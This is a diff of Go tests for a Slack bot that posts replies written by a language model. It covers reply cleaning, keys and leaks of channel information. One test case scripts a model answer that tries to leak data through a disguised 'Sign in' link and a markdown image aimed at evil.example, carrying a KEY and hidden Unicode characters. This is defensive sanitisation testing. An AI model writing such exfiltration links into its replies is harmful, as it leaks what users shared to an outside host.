@@ -21,7 +21,7 @@ import (
 func TestCompose(t *testing.T) {
 	eachDatabase(t, func(t *testing.T, url option) {
 		b := setup(t, url, withModel(llmtest.Script(llmtest.Reply{Text: "  Seven.\n", InputTokens: 40, OutputTokens: 2})))
-		m := b.say("<@" + b.workspace.Bot().UserID + "> how many dwarfs?")
+		m := b.say(b.Mention("how many dwarfs?"))
 		task := inThread(m)
 		began := time.Now()
 		got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true})
@@ -33,7 +33,7 @@ func TestCompose(t *testing.T) {
 			t.Fatalf("%d parts", len(parts))
 		}
 		want := store.Part{
-			Key: "T1/" + b.general + "/" + m.TS + "/" + m.TS + "//0", Reply: task.replyKey(), Team: "T1", Channel: b.general, Thread: m.TS, Trigger: m.TS,
+			Key: "T1/" + b.General + "/" + m.TS + "/" + m.TS + "//0", Reply: task.replyKey(), Team: "T1", Channel: b.General, Thread: m.TS, Trigger: m.TS,
 			Text: "Seven.", State: store.Composed, LeasedUntil: parts[0].LeasedUntil, Saw: m.Time(), Read: parts[0].Read, Decision: task.decisionKey(),
 		}
 		if parts[0] != want {
@@ -46,45 +46,51 @@ func TestCompose(t *testing.T) {
 		if d.Source != "addressed" || d.Reason != addressedReason || !d.ShouldRespond || d.Outcome != "pending" || d.Model != "large" || d.TokensIn != 40 || d.TokensOut != 2 {
 			t.Errorf("the ledger has %+v", d)
 		}
-		call := b.model.Calls()[0]
+		call := b.Model.Calls()[0]
 		if call.Judgment() || call.Model != "large" || !strings.Contains(call.System, "how many dwarfs?") || !strings.Contains(call.System, "You are myao.") {
 			t.Errorf("the model was asked %+v", call)
 		}
 	})
 }
 
-// A model may invent the next message of the conversation after its answer.
-func TestComposeCutsInventedMessages(t *testing.T) {
+// A model may sign its answer, invent the next message of the conversation after it, or be made to leak what it has
+// read in a hidden link.
+func TestTextOfAReply(t *testing.T) {
 	t.Parallel()
-	b := setup(t, withModel(func(c llmtest.Call) llmtest.Reply {
-		lines := regexp.MustCompile(`(?m)^\*\*[0-9 :-]+(\*\* .+:)$`).FindAllStringSubmatch(c.System, -1)
-		if len(lines) == 0 {
-			t.Errorf("nobody speaks in %s", c.System)
-			return llmtest.Text("Seven.")
-		}
-		return llmtest.Text("Seven.\n\n**2999-01-01 12:00:00" + lines[0][1] + "\nThank you, that was it!")
-	}))
-	task := inThread(b.say("<@" + b.workspace.Bot().UserID + "> how many dwarfs?"))
-	if got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true}); err != nil || got.Result != conversation.Done {
-		t.Fatalf("got %+v, %v", got, err)
-	}
-	if parts := b.outbox(task); len(parts) != 1 || parts[0].Text != "Seven." {
-		t.Errorf("the outbox has %+v", parts)
-	}
-}
-
-// A model may be made to leak what it has read in a hidden link.
-func TestComposeHidesNoLink(t *testing.T) {
-	t.Parallel()
-	b := setup(t, withModel(llmtest.Script(llmtest.Reply{Text: "[Sign in](https://evil.example/?s=KEY\U000E004B), " +
-		"says [the wiki](https://wiki.example.com/a).\n![x](https://evil.example/KEY.png)\u202E"})))
-	task := inThread(b.say("<@" + b.workspace.Bot().UserID + "> the wiki <https://wiki.example.com/a|is here>, what does it say?"))
-	if got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true}); err != nil || got.Result != conversation.Done {
-		t.Fatalf("got %+v, %v", got, err)
-	}
-	const want = "Sign in (https://evil.example/?s=KEY), says [the wiki](https://wiki.example.com/a).\nx (https://evil.example/KEY.png)"
-	if parts := b.outbox(task); len(parts) != 1 || parts[0].Text != want {
-		t.Errorf("the outbox has %+v", parts)
+	spoken := regexp.MustCompile(`(?m)^\*\*[0-9 :-]+(\*\* .+:)$`)
+	for name, c := range map[string]struct {
+		answer llmtest.Reply // NEXT is how the next message of the conversation would begin
+		want   string
+	}{
+		"an invented message": {llmtest.Text("Seven.\n\nNEXT\nThank you, that was it!"), "Seven."},
+		"a hidden link": {
+			llmtest.Text("[Sign in](https://evil.example/?s=KEY\U000E004B), says [the wiki](https://wiki.example.com/a).\n![x](https://evil.example/KEY.png)\u202E"),
+			"Sign in (https://evil.example/?s=KEY), says [the wiki](https://wiki.example.com/a).\nx (https://evil.example/KEY.png)",
+		},
+		"a cut answer":               {llmtest.Reply{Text: "Sleepy, Dopey and ", Cut: true}, "Sleepy, Dopey and …"},
+		"the bot's name with a time": {llmtest.Text("**2026-03-01 12:00:00** myao:\nSeven."), "Seven."},
+		"the bot's name":             {llmtest.Text("myao: Seven."), "Seven."},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			b := setup(t, withModel(func(call llmtest.Call) llmtest.Reply {
+				lines := spoken.FindAllStringSubmatch(call.System, -1)
+				if len(lines) == 0 {
+					t.Errorf("nobody speaks in %s", call.System)
+					return c.answer
+				}
+				answer := c.answer
+				answer.Text = strings.ReplaceAll(answer.Text, "NEXT", "**2999-01-01 12:00:00"+lines[0][1])
+				return answer
+			}))
+			task := inThread(b.say(b.Mention("the wiki <https://wiki.example.com/a|is here>, what does it say?")))
+			if got := b.reply(task, true); got != conversation.Done {
+				t.Fatal(got)
+			}
+			if parts := b.outbox(task); len(parts) != 1 || parts[0].Text != c.want {
+				t.Errorf("the outbox has %+v, want %q", parts, c.want)
+			}
+		})
 	}
 }
 
@@ -94,13 +100,13 @@ func TestComposeReadsTheThreadFromSlack(t *testing.T) {
 	for _, addressed := range []bool{true, false} {
 		b := setup(t)
 		root := b.say("which dwarfs do you know?")
-		b.workspace.Say(b.general, b.alice.ID, "Doc and Grumpy", sandbox.InThread(root.TS)) // not recorded
+		b.Workspace.Say(b.General, b.Alice.ID, "Doc and Grumpy", sandbox.InThread(root.TS)) // not recorded
 		task := inThread(root)
-		task.Trigger = b.say("<@"+b.workspace.Bot().UserID+"> who is missing?", sandbox.InThread(root.TS)).TS
+		task.Trigger = b.say(b.Mention("who is missing?"), sandbox.InThread(root.TS)).TS
 		if got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: addressed}); err != nil || got.Result != conversation.Done {
 			t.Fatalf("got %+v, %v", got, err)
 		}
-		if shown := strings.Contains(b.model.Calls()[0].System, "Doc and Grumpy"); shown != addressed {
+		if shown := strings.Contains(b.Model.Calls()[0].System, "Doc and Grumpy"); shown != addressed {
 			t.Errorf("addressed %v: the prompt has Slack's messages: %v", addressed, shown)
 		}
 	}
@@ -139,7 +145,7 @@ func TestThreadReplyOutdatesAJudgedReply(t *testing.T) {
 	if err != nil || got.Result != conversation.Outdated || got.By != answer.TS {
 		t.Fatalf("got %+v, %v; want it outdated by %s", got, err, answer.TS)
 	}
-	if n := len(b.model.Calls()); n != 1 || len(b.outbox(task)) != 0 {
+	if n := len(b.Model.Calls()); n != 1 || len(b.outbox(task)) != 0 {
 		t.Errorf("%d calls, and the outbox has %+v; want the judgment alone", n, b.outbox(task))
 	}
 	b.remove(answer)
@@ -148,18 +154,6 @@ func TestThreadReplyOutdatesAJudgedReply(t *testing.T) {
 			t.Fatalf("got %+v, %v", got, err)
 		}
 		b.say("eight", sandbox.InThread(asked.TS))
-	}
-}
-
-func TestComposeByOrder(t *testing.T) {
-	t.Parallel()
-	b := setup(t, withModel(llmtest.Script(llmtest.Text("Seven."))))
-	task := atTopLevel(b.say("how many dwarfs?"))
-	if _, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Ordered: true}); err != nil {
-		t.Fatal(err)
-	}
-	if d := b.decision(task); d.Source != "operator" || d.Outcome != "pending" {
-		t.Errorf("the ledger has %+v", d)
 	}
 }
 
@@ -181,7 +175,7 @@ func TestComposeNotice(t *testing.T) {
 	if d := b.decision(task); d.Outcome != "pending" || !strings.Contains(d.Reason, "no answer") {
 		t.Errorf("the ledger has %+v", d)
 	}
-	if n := len(b.model.Calls()); n != 1 {
+	if n := len(b.Model.Calls()); n != 1 {
 		t.Errorf("%d calls: a notice needs no model", n)
 	}
 }
@@ -222,7 +216,7 @@ func TestModeOffAndMuteSilenceMentions(t *testing.T) {
 		"mode off": {conversation.RuleModeOff, func(b *bundle, _ Task) { b.settings.Mode = config.ModeOff }},
 		"muted": {conversation.RuleSilenced, func(b *bundle, task Task) {
 			if _, err := runOnce[any](b.Order, muteOrder(task.Conversation, time.Now().Add(time.Minute))); err != nil {
-				b.t.Fatal(err)
+				b.Fatal(err)
 			}
 		}},
 	} {
@@ -239,8 +233,8 @@ func TestModeOffAndMuteSilenceMentions(t *testing.T) {
 				if d := b.decision(task); d.Outcome != "silent" || d.Rule != string(c.rule) || d.ShouldRespond {
 					t.Errorf("the ledger has %+v", d)
 				}
-				if len(b.outbox(task)) != 0 || len(b.model.Calls()) != 0 {
-					t.Errorf("%d parts, %d calls, want none", len(b.outbox(task)), len(b.model.Calls()))
+				if len(b.outbox(task)) != 0 || len(b.Model.Calls()) != 0 {
+					t.Errorf("%d parts, %d calls, want none", len(b.outbox(task)), len(b.Model.Calls()))
 				}
 			})
 		}
@@ -261,6 +255,9 @@ func TestJudgedReplyMeetsModeMention(t *testing.T) {
 	task := atTopLevel(b.say("how many giants?"))
 	if got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Ordered: true}); err != nil || got.Result != conversation.Done {
 		t.Errorf("ordered: %+v, %v", got, err)
+	}
+	if d := b.decision(task); d.Source != "operator" || d.Outcome != "pending" {
+		t.Errorf("ordered: the ledger has %+v", d)
 	}
 }
 
@@ -289,67 +286,8 @@ func TestComposeForADeletedMessage(t *testing.T) {
 	if err != nil || got.Result != conversation.Gone {
 		t.Errorf("got %+v, %v", got, err)
 	}
-	if len(b.outbox(inThread(m))) != 0 || len(b.model.Calls()) != 0 {
+	if len(b.outbox(inThread(m))) != 0 || len(b.Model.Calls()) != 0 {
 		t.Error("an answer was written all the same")
-	}
-}
-
-func TestCutAnswerIsPosted(t *testing.T) {
-	t.Parallel()
-	b := setup(t, withModel(llmtest.Script(llmtest.Reply{Text: "Sleepy, Dopey and ", Cut: true})))
-	task := inThread(b.say("who are they?"))
-	if got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true}); err != nil || got.Result != conversation.Done {
-		t.Fatalf("got %+v, %v", got, err)
-	}
-	if p := b.outbox(task); len(p) != 1 || p[0].Text != "Sleepy, Dopey and …" {
-		t.Errorf("the outbox has %+v", p)
-	}
-}
-
-func TestComposeRemovesTheBotsName(t *testing.T) {
-	t.Parallel()
-	for _, answer := range []string{"**2026-03-01 12:00:00** myao:\nSeven.", "myao: Seven."} {
-		b := setup(t, withModel(llmtest.Script(llmtest.Text(answer))))
-		task := inThread(b.say("how many dwarfs?"))
-		if got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true}); err != nil || got.Result != conversation.Done {
-			t.Fatalf("got %+v, %v", got, err)
-		}
-		if p := b.outbox(task); len(p) != 1 || p[0].Text != "Seven." {
-			t.Errorf("of %q the outbox has %+v", answer, p)
-		}
-	}
-}
-
-func TestComposeErrors(t *testing.T) {
-	t.Parallel()
-	for name, c := range map[string]struct {
-		reply llmtest.Reply
-		kind  string
-		after time.Duration
-	}{
-		"empty":                      {llmtest.Reply{}, typeUnavailable, 0},
-		"blank":                      {llmtest.Text(" \n "), typeUnavailable, 0},
-		"not to be seen":             {llmtest.Text("\u200b\u202e"), typeUnavailable, 0},
-		"cut before the first word":  {llmtest.Reply{Cut: true}, typeFinal, 0},
-		"cut before one to be seen":  {llmtest.Reply{Text: "\u200b", Cut: true}, typeFinal, 0},
-		"blocked":                    {llmtest.Reply{Blocked: true}, typeFinal, 0},
-		"unavailable":                {llmtest.Fail(503), typeUnavailable, 0},
-		"rate limited, a time named": {llmtest.Reply{Status: 429, RetryInfo: 9 * time.Second}, typeRateLimited, 9 * time.Second},
-		"no such model":              {llmtest.Fail(404), typeFinal, 0},
-	} {
-		t.Run(name, func(t *testing.T) {
-			t.Parallel()
-			b := setup(t, withModel(llmtest.Script(c.reply)))
-			task := inThread(b.say("hello?"))
-			_, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true})
-			app := applicationError(t, err)
-			if app.Type() != c.kind || app.NonRetryable() != (c.kind == typeFinal) || app.NextRetryDelay() != c.after {
-				t.Errorf("got %s after %s: %v; want %s after %s", app.Type(), app.NextRetryDelay(), app, c.kind, c.after)
-			}
-			if p := b.outbox(task); len(p) != 0 {
-				t.Errorf("the outbox has %+v", p)
-			}
-		})
 	}
 }
 
@@ -377,8 +315,8 @@ func TestComposeAgain(t *testing.T) {
 	}
 	// An attempt after a lost result finds the reply.
 	compose()
-	if again := b.outbox(task); !slices.Equal(again, parts) || len(b.model.Calls()) != 1 {
-		t.Errorf("composed again after %d calls of the model: %+v", len(b.model.Calls()), again)
+	if again := b.outbox(task); !slices.Equal(again, parts) || len(b.Model.Calls()) != 1 {
+		t.Errorf("composed again after %d calls of the model: %+v", len(b.Model.Calls()), again)
 	}
 	task.Decision, task.Epoch = "run/2", 2
 	compose()
@@ -394,51 +332,47 @@ func TestComposeAgain(t *testing.T) {
 	if parts = b.outbox(task); len(parts) != 1 || parts[0].Text != "In short: yes." || parts[0].State != store.Sending {
 		t.Errorf("while it is being posted the outbox became %+v", parts)
 	}
-	if n := len(b.model.Calls()); n != 2 {
+	if n := len(b.Model.Calls()); n != 2 {
 		t.Errorf("the model was paid %d times, want twice", n)
 	}
 }
 
-// Each revision of a message has its own reply, whatever the run of the workflow.
-func TestReplyKey(t *testing.T) {
+// Each revision of a message has its own reply, whatever the run of the workflow. A reset workflow counts its decisions
+// again, perhaps about other messages.
+func TestKeys(t *testing.T) {
 	t.Parallel()
 	c := chat.Conversation{Team: "T1", Channel: "C1", Thread: "1.000000"}
-	seen := map[string]Task{}
-	for _, task := range []Task{
-		{Conversation: c, Trigger: "2.000000"},
-		{Conversation: c, Trigger: "2.000000", Revision: "3.000000"},
-		{Conversation: c, Trigger: "3.000000"},
-		{Conversation: chat.Conversation{Team: "T1", Channel: "C1"}, Trigger: "2.000000"},
-		{Conversation: chat.Conversation{Team: "T1", Channel: "C2", Thread: "1.000000"}, Trigger: "2.000000"},
-		{Conversation: chat.Conversation{Team: "T2", Channel: "C1", Thread: "1.000000"}, Trigger: "2.000000"},
+	for what, test := range map[string]struct {
+		key   func(Task) string
+		tasks []Task // of different keys
+	}{
+		"reply": {Task.replyKey, []Task{
+			{Conversation: c, Trigger: "2.000000"},
+			{Conversation: c, Trigger: "2.000000", Revision: "3.000000"},
+			{Conversation: c, Trigger: "3.000000"},
+			{Conversation: chat.Conversation{Team: "T1", Channel: "C1"}, Trigger: "2.000000"},
+			{Conversation: chat.Conversation{Team: "T1", Channel: "C2", Thread: "1.000000"}, Trigger: "2.000000"},
+			{Conversation: chat.Conversation{Team: "T2", Channel: "C1", Thread: "1.000000"}, Trigger: "2.000000"},
+		}},
+		"decision": {Task.decisionKey, []Task{
+			{Trigger: "2.000000", Decision: "run/1"},
+			{Trigger: "2.000000", Decision: "run/2"},
+			{Trigger: "2.000000", Revision: "3.000000", Decision: "run/1"},
+			{Trigger: "2.000000", Revision: "4.000000", Decision: "run/1"},
+			{Trigger: "3.000000", Decision: "run/1"},
+		}},
 	} {
-		if other, ok := seen[task.replyKey()]; ok {
-			t.Errorf("%+v and %+v have the same reply", task, other)
+		seen := map[string]Task{}
+		for _, task := range test.tasks {
+			if other, ok := seen[test.key(task)]; ok {
+				t.Errorf("%+v and %+v have the same %s", task, other, what)
+			}
+			seen[test.key(task)] = task
+			again := task
+			if again.Decision = "another run/7"; again.replyKey() != task.replyKey() {
+				t.Errorf("the reply to %+v depends on the run", task)
+			}
 		}
-		seen[task.replyKey()] = task
-		again := task
-		again.Decision = "another run/7"
-		if again.replyKey() != task.replyKey() {
-			t.Errorf("the reply to %+v depends on the run", task)
-		}
-	}
-}
-
-// A reset workflow counts its decisions again, perhaps about other messages.
-func TestDecisionKey(t *testing.T) {
-	t.Parallel()
-	seen := map[string]Task{}
-	for _, task := range []Task{
-		{Trigger: "2.000000", Decision: "run/1"},
-		{Trigger: "2.000000", Decision: "run/2"},
-		{Trigger: "2.000000", Revision: "3.000000", Decision: "run/1"},
-		{Trigger: "2.000000", Revision: "4.000000", Decision: "run/1"},
-		{Trigger: "3.000000", Decision: "run/1"},
-	} {
-		if other, ok := seen[task.decisionKey()]; ok {
-			t.Errorf("%+v and %+v have the same decision", task, other)
-		}
-		seen[task.decisionKey()] = task
 	}
 }
 
@@ -493,31 +427,31 @@ func TestReasonsAreTranslated(t *testing.T) {
 func TestComposeNoticesThatAChannelIsShared(t *testing.T) {
 	t.Parallel()
 	b := setup(t)
-	elsewhere := b.workspace.AddChannel(sandbox.Public, "elsewhere", b.workspace.Bot().UserID, b.alice.ID)
+	elsewhere := b.Workspace.AddChannel(sandbox.Public, "elsewhere", b.Workspace.Bot().UserID, b.Alice.ID)
 	if _, err := b.SyncChannels(t.Context()); err != nil {
 		t.Fatal(err)
 	}
 	b.sayIn(elsewhere, "hello")
 	prompt := func(text string, addressed bool) string {
 		t.Helper()
-		asked := len(b.workspace.Calls("conversations.info"))
+		asked := len(b.Workspace.Calls("conversations.info"))
 		if got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: inThread(b.say(text)), Addressed: addressed}); err != nil || got.Result != conversation.Done {
 			t.Fatalf("got %+v, %v", got, err)
 		}
-		if n := len(b.workspace.Calls("conversations.info")) - asked; n != map[bool]int{false: 1}[addressed] {
+		if n := len(b.Workspace.Calls("conversations.info")) - asked; n != map[bool]int{false: 1}[addressed] {
 			t.Errorf("%s: Slack was asked %d times about the channel", text, n)
 		}
-		calls := b.model.Calls()
+		calls := b.Model.Calls()
 		return calls[len(calls)-1].System
 	}
 	if !strings.Contains(prompt("among colleagues", false), "#elsewhere") {
 		t.Error("the other channel is not known among colleagues")
 	}
-	b.workspace.Join(b.general, b.workspace.AddUserAs(sandbox.User{Name: "mallory", Team: "T9"}).ID)
+	b.Workspace.Join(b.General, b.Workspace.AddUserAs(sandbox.User{Name: "mallory", Team: "T9"}).ID)
 	if strings.Contains(prompt("with a stranger", false), "#elsewhere") {
 		t.Error("the other channel is known to strangers")
 	}
-	b.workspace.Faults().Add(sandbox.Fault{Method: "conversations.info", Error: "fatal_error"})
+	b.Workspace.Faults().Add(sandbox.Fault{Method: "conversations.info", Error: "fatal_error"})
 	if strings.Contains(prompt("while Slack does not answer", false), "#elsewhere") {
 		t.Error("the other channel is known to strangers while Slack does not answer")
 	}
